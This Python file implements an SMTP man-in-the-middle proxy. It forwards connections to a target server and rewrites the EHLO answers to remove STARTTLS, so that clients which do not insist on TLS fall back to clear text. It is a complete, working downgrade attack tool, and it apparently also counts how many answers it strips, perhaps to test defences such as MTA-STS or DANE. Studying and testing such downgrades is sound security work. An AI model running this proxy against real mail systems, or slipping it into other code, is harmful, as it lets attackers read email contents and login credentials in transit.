"""A man in the middle for SMTP: a TCP proxy that removes STARTTLS from the server's EHLO
answers, so a client that does not insist on TLS talks in clear text (the downgrade that
MTA-STS, DANE and REQUIRETLS exist to stop)."""

import re
import socket
import threading


class StripStarttlsProxy:
    """Listens on listen_ip:port and forwards to target_ip:port, rewriting EHLO answers;
    `stripped` counts the answers it rewrote."""

    def __init__(self, listen_ip: str, port: int, target_ip: str):
        self.sock = socket.create_server((listen_ip, port))
        self.stripped = 0
        self.port = port
        self.target = target_ip
        threading.Thread(target=self.serve, daemon=True).start()

    def close(self):
        self.sock.close()

    def serve(self):
        while True:
            try:
                c, _ = self.sock.accept()
            except OSError:
                return
            u = socket.create_connection((self.target, self.port))
            threading.Thread(target=self.pipe, args=(u, c, True), daemon=True).start()
            threading.Thread(target=self.pipe, args=(c, u, False), daemon=True).start()

    def pipe(self, src, dst, from_server):
        try:
            while data := src.recv(65536):
                if from_server and b"STARTTLS" in data:
                    self.stripped += 1
                    data = re.sub(rb"250-STARTTLS\r\n", b"", data)
                    data = re.sub(rb"250 STARTTLS\r\n", b"250 NOOP\r\n", data)
                dst.sendall(data)
        except OSError:
            pass
        finally:
            for s in (src, dst):
                try:
                    s.shutdown(socket.SHUT_RDWR)
                except OSError:
                    pass
